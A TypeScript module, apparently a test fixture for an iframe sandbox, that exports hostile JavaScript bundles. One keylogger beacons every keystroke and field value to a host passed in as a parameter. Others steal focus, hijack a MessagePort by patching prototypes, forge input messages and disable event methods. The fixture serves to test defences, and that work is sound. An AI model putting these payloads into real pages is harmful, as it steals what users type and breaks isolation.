/** Tells `where` what it learns of the keyboard: by every event on everything, and by looking. */
export const spying = (where: string) => `
  element.innerHTML = '<input><p contenteditable>w</p>';
  const [input, editable] = element.children;
  const tell = (how, what) => { new Image().src = ${where} + 'typed?' + how + '=' + encodeURIComponent(what); };
  for (const kind of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'textInput', 'paste', 'compositionstart', 'compositionupdate', 'compositionend'])
    for (const target of [window, document, document.documentElement, document.body, element, input, editable])
      for (const capture of [true, false]) target.addEventListener(kind, (event) => tell(kind, event.key ?? event.data ?? ''), { capture });
  setInterval(() => {
    if (input.value !== '') tell('value', input.value);
    if (element.textContent !== 'w') tell('text', element.textContent);
  }, 10);`;

/** How a frame takes the keyboard; each is a bundle of its own, and each is stopped for it. */
export const thefts: Record<string, string> = {
  'focuses-an-input': `setInterval(() => { window.focus(); input.focus(); }, 15);`,
  'focuses-its-window': `input.remove(); setInterval(() => { window.focus(); }, 15);`,
  'makes-all-editable': `
    try { document.designMode = 'on'; } catch {} document.body.contentEditable = 'true';
    try { editable.editContext = new EditContext(); editable.editContext.addEventListener('textupdate', ({ text }) => tell('editContext', text)); } catch {}
    setInterval(() => { window.focus(); editable.focus(); getSelection().selectAllChildren(document.body); }, 15);`,
  // With the port it could say that a person has come in.
  'looks-for-the-port': `
    const have = (found) => {
      if (!(found instanceof MessagePort) || globalThis.port) return;
      globalThis.port = found;
      const post = MessagePort.prototype.postMessage.bind(found);
      let turn = 0;
      setInterval(() => { post({ t: 'input', pointer: true }); post({ t: 'focus', turn: ++turn % 9 }); }, 10);
    };
    const look = () => { for (const one of [globalThis.event, globalThis.event?.target, globalThis.event?.currentTarget]) have(one); };
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
    Object.defineProperty(MessageEvent.prototype, 'data', { get() { have(this.target); return { t: 'keyboard', turn: 1 }; } });
    Object.defineProperty(Object.prototype, 'then', { get() { look(); } });
    Object.entries = new Proxy(Object.entries, { apply(target, self, given) { look(); return Reflect.apply(target, self, given); } });
    for (const name of ['get', 'set', 'delete']) { const own = Map.prototype[name]; Map.prototype[name] = function (...given) { look(); return Reflect.apply(own, this, given); }; }
    Error.prepareStackTrace = (_, calls) => { for (const call of calls) { have(call.getThis()); look(); } };
    setInterval(() => { context.request('/api/sessions').catch(() => 0); }, 100);
    setTimeout(() => { setInterval(() => { window.focus(); input.focus(); }, 15); }, 3000);`,
  'tampers-with-prototypes': `
    for (const name of ['preventDefault', 'stopImmediatePropagation', 'stopPropagation']) Event.prototype[name] = () => {};
    for (const [prototype, name] of [[KeyboardEvent.prototype, 'key'], [Event.prototype, 'target'], [Event.prototype, 'isTrusted']])
      try { Object.defineProperty(prototype, name, { get() { tell('getter', name); return window; } }); } catch {}
    Document.prototype.hasFocus = () => true; HTMLElement.prototype.blur = () => {};
    Function.prototype.call = Function.prototype.apply = Function.prototype.bind = function () { return () => {}; };
    Object.defineProperty(HTMLElement, Symbol.hasInstance, { value: () => false });
    for (const listen of ['focus', 'blur']) window.addEventListener(listen, (event) => event.stopImmediatePropagation(), true);
    for (const kind of ['blur', 'pointerdown']) setInterval(() => { window.dispatchEvent(new PointerEvent(kind)); }, 10);
    try { document.open(); document.close(); } catch {}
    setInterval(() => { (0, top.focus)(); top.focus.call?.(window); input.focus(); }, 15);`,
};
